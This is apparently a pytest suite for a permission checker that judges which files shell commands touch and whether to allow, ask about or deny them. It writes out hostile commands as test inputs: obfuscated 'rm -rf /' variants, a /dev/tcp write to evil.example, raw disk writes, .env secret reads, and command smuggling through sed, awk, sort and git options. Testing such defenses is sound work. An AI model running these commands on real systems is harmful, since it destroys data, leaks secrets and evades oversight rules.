"""What a command touches, and what the deciding function makes of it."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from pegboard.manifest import Manifest
from pegboard.policy import Decision, Mode, Snapshot, decide, parse_rule, resolve_accesses, suggest
from pegboard.tool import Access
from pegboard_shell.judge import Judgement, accesses
from pegboard_shell.places import hidden_from

BASH = Manifest(name="Bash", summary="runs", api=1, effects=["process", "file", "network"])


class World:
    def __init__(self, base: Path) -> None:
        self.cwd, self.home = base / "w" / "p", base / "home" / "u"
        for folder in (self.cwd / "src", self.cwd / "vendor" / "x", self.home):
            folder.mkdir(parents=True)

    def snapshot(self, *, mode: str = "default", trusted: bool = True, **rules: list[str]) -> Snapshot:
        each = [parse_rule(text, effect=effect, scope="user") for effect, texts in rules.items() for text in texts]
        return Snapshot.make(each, mode=Mode.parse(mode), cwd=self.cwd, home=self.home, trusted=trusted)

    def judge(self, command: str, snapshot: Snapshot | None = None, **given) -> Judgement:
        if snapshot is not None:
            given["trusted"] = snapshot.trusted
            given["hidden"] = hidden_from(
                snapshot.read_deny_globs, lambda path: snapshot.denied("Bash", Access.read(path)) is not None
            )
        return accesses(command, cwd=str(self.cwd), home=str(self.home), roots=(str(self.cwd),), **given)

    def decide(self, command: str, **given) -> Decision:
        snapshot = self.snapshot(**given)
        found = self.judge(command, snapshot).accesses
        return decide(BASH, {"command": command}, resolve_accesses(found, snapshot), snapshot)

    def verdict(self, command: str, **given) -> str:
        return self.decide(command, **given).verdict

    def paths(self, command: str) -> dict[str, str]:
        """Short names of the paths of a command and what it does to them."""
        found = self.judge(command).accesses
        return {
            item.target.replace(f"{self.cwd}/", "").replace(str(self.cwd), "."): item.kind.value
            for item in found
            if item.kind in ("read", "edit")
        }


@pytest.fixture
def world(tmp_path):
    return World(tmp_path.resolve())


# -- what needs no question ------------------------------------------------------------------------------------------

HERE = Path(__file__).parent


def listed(name: str) -> list[str]:
    lines = (HERE / name).read_text("utf-8").splitlines()[1:]
    return [re.sub(r"\\(.)", lambda match: {"n": "\n"}.get(match[1], match[1]), line) for line in lines]


READS, NOT_READS = listed("reads.txt"), listed("more_than_reads.txt")


@pytest.mark.parametrize("command", READS)
def test_reading_needs_no_question(world, command):
    decision = world.decide(command)
    assert decision.verdict == "allow", decision.decided_by
    assert world.judge(command).reads_only
    assert world.verdict(command, mode="dontAsk") == world.verdict(command, mode="plan") == "allow"


@pytest.mark.parametrize("command", NOT_READS)
def test_what_may_do_more_is_asked_about(world, command):
    assert world.verdict(command) == "ask"
    assert world.verdict(command, mode="dontAsk") == "deny"


def test_reading_is_restricted_by_rules(world):
    assert world.verdict("ls", ask=["Bash(ls *)"]) == "ask"
    assert world.verdict("cat a", deny=["Read(a)"]) == "deny"
    assert world.verdict("cat a", deny=["Bash"]) == "deny"


def test_git_is_free_only_in_the_trusted_repository(world):
    assert world.verdict("git status", trusted=False) == "ask"
    (world.cwd / ".git").mkdir()
    assert world.verdict("git status") == "allow"
    inner = world.cwd / "vendor" / "x"
    given = {"home": str(world.home), "roots": (str(world.cwd),)}
    assert accesses("git status", cwd=str(inner), **given).reads_only
    (inner / "HEAD").write_text("ref: refs/heads/x\n")
    assert not accesses("git status", cwd=str(inner), **given).reads_only


# -- files -----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("command", "paths"),
    [
        ("cat a b/c", {"a": "read", "b/c": "read"}),
        ("grep x a", {"a": "read"}),
        ("grep -r x", {".": "read"}),
        ("grep -f p x", {"p": "read", "x": "read"}),
        ("ls", {".": "read"}),
        ("rm -rf a b", {"a": "edit", "b": "edit"}),
        ("mv a b", {"a": "edit", "b": "edit"}),
        ("mv -t d a", {"a": "edit", "d": "edit"}),
        ("cp a b c", {"a": "read", "b": "read", "c": "edit"}),
        ("cp --target-directory=d a", {"a": "read", "d": "edit"}),
        ("mkdir -p -m 700 a", {"a": "edit"}),
        ("touch -r a b", {"a": "read", "b": "edit"}),
        ("rmdir a", {"a": "edit"}),
        ("ln -s a b", {"a": "read", "b": "edit"}),
        ("ln -s x/a", {"x/a": "read", "a": "edit"}),
        ("chmod +x a", {"a": "edit"}),
        ("tee -a a", {"a": "edit"}),
        ("sed -i s/x/y/ a", {"a": "edit"}),
        ("sed s/x/y/ a", {"a": "read"}),
        ("sort -o a b", {"a": "edit"}),
        ("dd if=a of=b", {"a": "read", "b": "edit"}),
        ("curl -sSo a x", {"a": "edit"}),
        ("curl --output=a x", {"a": "edit"}),
        ("wget -O a x", {"a": "edit"}),
        ("x > a 2>> b < c", {"a": "edit", "b": "edit", "c": "read"}),
        ("cd src && cat a > b", {"src": "read", "src/a": "read", "src/b": "edit"}),
        ("cd src; cat a", {"src": "read", "a": "read", "src/a": "read"}),
        ("x ./a --f=b/c @d/e .f g http://h/i", {"./a": "read", "b/c": "read", "d/e": "read", ".f": "read"}),
        ("cat /dev/null - /dev/stdin < /dev/null > /dev/null", {}),
        ("find src -name x", {"src": "read"}),
        ("tar xf a -C b", {"a": "read", "b": "edit"}),
        ("git show HEAD:src/a", {"src/a": "read"}),
        ("bash -c 'cat a'", {"a": "read"}),
        ("cat {a,b}", {"a": "read", "b": "read"}),
        ("find . -exec cat a {} +", {".": "read", "a": "read"}),
    ],
)
def test_paths(world, command, paths):
    assert world.paths(command) == paths


def test_patterns_are_expanded_as_they_are_now(world):
    for name in ("a.py", "b.py", ".c.py"):
        (world.cwd / name).touch()
    assert world.paths("cat *.py") == {"a.py": "read", "b.py": "read"}
    assert world.paths("rm *.py '*.py'") == {"a.py": "edit", "b.py": "edit", "*.py": "edit"}
    assert world.paths("cat src/*.py") == {"src/*.py": "read"}
    assert world.paths("cd src; rm *.py") == {"src": "read", ".": "edit"} | {"src": "edit"}


def test_the_variable_of_a_loop_stands_for_its_values(world):
    for name in ("a.py", "b.py"):
        (world.cwd / name).touch()
    assert world.paths('for f in a b; do cat "$f" ${f}.c; done') == {
        "a": "read",
        "a.c": "read",
        "b": "read",
        "b.c": "read",
    }
    assert world.paths('for f in *.py; do head -3 "$f"; done') == {"a.py": "read", "b.py": "read"}
    assert world.verdict('for f in *.py; do echo "== $f"; head -3 "$f"; done') == "allow"
    assert world.verdict("for c in rm ls; do $c x; done", deny=["Bash(rm *)"], allow=["Bash"]) == "deny"
    for other in (
        'for f in a; do f=/etc/x; cat "$f"; done',
        'for f in $X; do cat "$f"; done',
        'for f; do cat "$f"; done',
        'for f in a; do read f; cat "$f"; done',
        "for f in *.py; do cat $f; done",
        "for f in a; do :; done; cat $f",
        'select f in a; do cat "$f"; done',
        "for f in {1..40}; do cat $f; done",
        "IFS=x; for f in axb; do cat $f; done",
    ):
        assert world.verdict(other) == "ask", other


def test_a_pattern_may_become_an_option(world):
    (world.cwd / "a.txt").touch()
    assert world.verdict("sort *.txt") == "allow"
    (world.cwd / "--compress-program=x.txt").touch()
    assert world.verdict("sort *.txt") == "ask"
    assert world.verdict("sort ./*.txt") == "allow"
    assert world.verdict("echo > ./-x.txt; sort *.txt", mode="acceptEdits") == "ask"


def test_a_link_made_on_the_way_is_no_way_out(world):
    given = {"mode": "acceptEdits", "allow": ["Bash(ln *)"]}
    assert world.verdict("ln -s src x", **given) == "allow"
    assert world.verdict("ln -s src x && echo a > x/b", **given) == "ask"
    (world.cwd / "l").symlink_to(world.home)
    assert world.verdict("mv l m && echo a > m/b", **given) == "ask"
    assert world.verdict("cp -P l m && cat m/b", **given) == "ask"


def test_recursive_reading_finds_what_is_hidden(world):
    (world.cwd / "src" / ".env").write_text("KEY=1")
    (world.cwd / "src" / "a.py").write_text("x")
    deny = ["Read(.env)"]
    assert world.verdict("grep -r KEY .", deny=deny) == "deny"
    assert world.verdict("grep -r KEY vendor", deny=deny) == "allow"
    assert world.verdict("grep -r --exclude=.env KEY .", deny=deny) == "allow"
    assert world.verdict("grep -r --include='*.py' KEY .", deny=deny) == "allow"
    assert world.verdict("grep -r --include=*.{py,env} KEY .", deny=deny) == "deny"
    assert world.verdict("rg KEY", deny=deny) == "allow"
    assert world.verdict("rg -uu -g '*.py' KEY", deny=deny) == "allow"
    assert world.verdict("rg --hidden KEY", deny=deny) == "deny"
    assert world.verdict("cat src/.e*", deny=deny) == "deny"
    assert world.verdict("cp -r src /dev/null", deny=deny) == "deny"
    assert world.verdict("x --env-file src/.env", deny=deny, allow=["Bash(x *)"]) == "deny"
    assert world.verdict("git show HEAD:src/.env", deny=deny) == "deny"


# -- modes and rules -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("command", ["mkdir a", "touch a", "mv a b", "cp a b", "rm a", "rmdir a", "sed -i s/a/b/ a",
    "echo x > a", "mkdir -p a/b && touch a/b/c", "cd src && rm a"])  # fmt: skip
def test_accept_edits(world, command):
    assert world.verdict(command) == "ask"
    assert world.verdict(command, mode="acceptEdits") == "allow"
    assert world.verdict(command, mode="plan") == "deny"


@pytest.mark.parametrize(
    "command",
    ["mkdir /a", "touch ~/a", "mv a ../b", "cp a /etc/b", "rm ../a", "sed -i s/a/b/ ~/a", "echo x > ~/a",
     "touch .git/x", "rm .bashrc", "cp a .vscode/b", "sed -i '1e id' a", "rm $X", "ln -s a b", "chmod +x a", "tee a",
     "python3 x", "cd .. && rm a", "mv a $X", "cp -t /etc a", "mkdir a; npm i", "rm -rf .", "rm -rf ~"],
)  # fmt: skip
def test_accept_edits_ends_at_the_working_directories(world, command):
    assert world.verdict(command, mode="acceptEdits") == "ask"


def test_perm_6_command_patterns(world):
    assert world.verdict("npx -y x", allow=["Bash(npx *)"]) == "allow"
    assert world.verdict("npxx", allow=["Bash(npx *)"]) == "ask"
    assert world.verdict("npxx", allow=["Bash(npx*)"]) == "allow"


def test_bash_1_any_denied_segment_denies(world):
    rules = {"allow": ["Bash(npm test)"], "deny": ["Bash(curl *)"]}
    assert world.verdict("npm test && curl x", **rules) == "deny"
    assert world.verdict("npm test", **rules) == "allow"


def test_bash_2_a_substitution_is_judged(world):
    assert world.verdict("echo $(rm -rf ~)", allow=["Bash(echo *)"]) == "ask"
    assert world.verdict("echo $(rm -rf ~)", allow=["Bash(*)"], mode="bypassPermissions") == "ask"


def test_bash_3_git_in_another_directory(world):
    assert world.verdict("cd src && git status") == "ask"
    assert world.verdict("cd src && git status", allow=["Bash(cd *)", "Bash(git *)"]) == "ask"
    assert world.verdict("cd . && git status") == "allow"
    assert world.verdict(f"cd {world.cwd} && git status") == "allow"


def test_perm_3_critical_removal(world):
    for mode in ("bypassPermissions", "default"):
        for command in ('rm -rf "$X"/*', "sudo rm -rf /", "bash -c 'rm -rf ~'", "cd / && rm -rf *", "cd ..; rm -rf p",
                        "timeout 5 rm -rf $HOME", "echo `rm -rf /`", "r'm' -rf ~", "find . -exec rm -rf / \\;",
                        "X=rm; $X -rf /", "cat <<E | sh\nrm -rf ~\nE", "eval 'rm -rf ~'", "rm -rf {/,x}"):  # fmt: skip
            assert world.verdict(command, mode=mode, allow=["Bash"]) == "ask", (mode, command)


@pytest.mark.parametrize(
    "command",
    ["rm x", "a && rm x", "FOO=1 rm x", "LD_PRELOAD=y rm x", "timeout 5 rm x", "env rm x", "sudo rm x", "/bin/rm x",
     "'r'm x", "r\\m x", "$'\\x72m' x", "xargs rm < l", "bash -c 'rm x'", "find . -exec rm {} \\;", "eval 'rm x'",
     "trap 'rm x' 0", "rm  x", "{ rm x; }", "uv run rm x", "npx rm x", "watch rm x", "su -c 'rm x'", "f() { rm x; }",
     "x=$(rm x)", "echo ${y:-$(rm x)}", "cat <(rm x)", "echo a > $(rm x)", "busybox rm x", "X=1 env -i Y=2 nice rm x"],
)  # fmt: skip
def test_a_deny_rule_sees_through(world, command):
    assert world.verdict(command, deny=["Bash(rm *)"], allow=["Bash"]) == "deny"


@pytest.mark.parametrize("command", ["$X x", "eval $X", "sh < l", "cat l | sh", "source l", "cat <<E | sh\nrm x\nE",
    "bash -c \"$X\"", "xargs sh -c < l", "git $X", "git --no-pager $X"])  # fmt: skip
def test_what_a_deny_rule_cannot_see_through_asks(world, command):
    assert world.verdict(command, deny=["Bash(rm *)", "Bash(git push *)"], allow=["Bash"]) == "ask"


def test_git_options_hide_nothing_from_rules(world):
    for command in ("git -C . push", "git --no-pager push", "git -c color.ui=never push"):
        assert world.verdict(command, deny=["Bash(git push *)"], allow=["Bash"]) == "deny"


def test_an_open_end_may_meet_a_rule(world):
    rules = {"allow": ["Bash"], "deny": ["Bash(git push *)", "Bash(npm * --force)"]}
    assert world.verdict("npm run $X", **rules) == "ask"
    assert world.verdict("npm run x", **rules) == "allow"
    assert world.verdict("foo $X", **rules) == "allow"


@pytest.mark.parametrize(
    "command", ["f() { x; }; f", "x $((y))", "trap '' TERM; x", "read -p a PATH", "$X", "kill -9 $$"]
)
def test_the_whole_tool_allowed_and_nothing_denied(world, command):
    """Who allows everything is not asked about what cannot be known, as long as no other rule could be missed."""
    assert world.verdict(command, allow=["Bash"]) == "allow"
    assert world.verdict(command, allow=["Bash"], mode="dontAsk") == "allow"


@pytest.mark.parametrize("command", ["echo 'a", "a" * 10_001, "ls \u00a0x", "cd src && git status", "find . -delete",
    "watch ls", "sudo ls", "sed '1e id' a"])  # fmt: skip
def test_what_always_asks(world, command):
    assert world.verdict(command, allow=["Bash", "Bash(find *)", "Bash(sed *)"]) == "ask"
    assert world.verdict(command, allow=["Bash"], mode="dontAsk") == "deny"
    assert world.verdict(command, mode="bypassPermissions") == "allow"


@pytest.mark.parametrize(
    ("command", "rule", "verdict"),
    [
        ("NODE_ENV=test npm test", "Bash(npm test *)", "allow"),
        ("X=1 npm test", "Bash(npm test *)", "ask"),
        ("X=1 npm test", "Bash(X=1 npm test)", "allow"),
        ("timeout 60 npm test", "Bash(npm test *)", "allow"),
        ("timeout 60 npm test", "Bash(timeout *)", "ask"),
        ("env npm test", "Bash(env *)", "ask"),
        ("uv run pytest", "Bash(uv run pytest *)", "allow"),
        ("uv run pytest", "Bash(pytest *)", "ask"),
        ("bash -c 'npm test'", "Bash(npm test)", "allow"),
        ("bash -c 'npm test'", "Bash(bash *)", "ask"),
        ("/bin/npm test", "Bash(npm test)", "ask"),
        ("npm test > out", "Bash(npm test *)", "ask"),
        ("npm test 2>&1 | tail", "Bash(npm test *)", "allow"),
        ("npm test $(curl x)", "Bash(npm test *)", "ask"),
        ("npm 'test'", "Bash(npm test)", "ask"),
        ("git commit -m 'a; b'", "Bash(git commit *)", "allow"),
        ("rm -rf build", "Bash(rm -rf build)", "allow"),
        ("rm ../x", "Bash(rm *)", "ask"),
        ("cat /etc/hosts", "Bash(cat *)", "ask"),
        ("cat /etc/hosts", "Read(//etc/hosts)", "allow"),
        ("find . -exec x \\;", "Bash(find *)", "ask"),
        ("awk 'BEGIN{system(\"x\")}'", "Bash(awk *)", "ask"),
        ("sort --compress-prog=x a", "Bash(sort *)", "ask"),
        ("tar xf a --to-command=x", "Bash(tar *)", "ask"),
        ("git -c alias.x='!y' x", "Bash(git *)", "ask"),
        ("git clone --upload-pack=x y", "Bash(git *)", "ask"),
        ("git checkout -b x", "Bash(git checkout *)", "allow"),
        ("xargs npm < l", "Bash(npm *)", "allow"),
        ("git commit -m \"$(cat <<'E'\nfix\n\nmore `x`\nE\n)\"", "Bash(git commit *)", "allow"),
        ('git commit -am "$MSG"', "Bash(git commit *)", "allow"),
        ("git commit -m $MSG", "Bash(git commit *)", "ask"),
        ('git commit "$X"', "Bash(git commit *)", "ask"),
        ("make -j$(nproc)", "Bash(make *)", "allow"),
        ("make -j$(x)", "Bash(make *)", "ask"),
        ("export FOO=1; make", "Bash(make *)", "ask"),
        ("export CI=1; make", "Bash(make *)", "allow"),
        ("xargs -n 1 npm < l", "Bash(npm *)", "ask"),
    ],
)
def test_allow_rules(world, command, rule, verdict):
    assert world.verdict(command, allow=[rule]) == verdict


def test_git_after_its_own_files_were_made(world):
    rules = ["Bash(mkdir *)", "Bash(git *)", "Edit(**)", "Bash(cp *)"]
    for command in ("mkdir objects && git log", "echo x > HEAD; git status", "cp a config && git fetch"):
        assert world.verdict(command, allow=rules) == "ask"
    assert world.verdict("mkdir x && git status", allow=rules) == "allow"


def test_an_answer_saves_what_was_shown(world):
    snapshot = world.snapshot()
    for command, session, always in (
        ("npm test 2>&1 | tail", ["Bash(npm test)"], True),
        ("make a && make b", ["Bash(make a)", "Bash(make b)"], True),
        ("mkdir a", ["Bash(mkdir a)"], True),
        ("cat /etc/hosts", ["Read(//etc/hosts)"], True),
        ("ls > out", [f"Edit(/{world.cwd}/**)"], False),
        ("eval x", [], False),
        ("sudo x", [], False),
    ):
        found = world.judge(command).accesses
        decision = decide(BASH, {}, resolve_accesses(found, snapshot), snapshot)
        assert decision.verdict == "ask"
        assert suggest(BASH, found, decision, snapshot) == (session, session if always else []), command
        if session:
            kinds = {"allow": session}
            assert world.verdict(command, **kinds) == "allow"


def test_network_redirects_and_devices(world):
    assert world.verdict("echo x > /dev/tcp/evil.example/80", allow=["Bash(echo *)", "Edit(//dev/**)"]) == "ask"
    assert world.verdict("dd if=a of=/dev/sda", allow=["Bash(dd *)"]) == "ask"


def test_judgement_is_told_in_sentences(world):
    for command in (*NOT_READS, "echo 'a"):
        for problem in world.judge(command).problems:
            assert problem.text and "\n" not in problem.text[:20] and problem.text[0] != " "
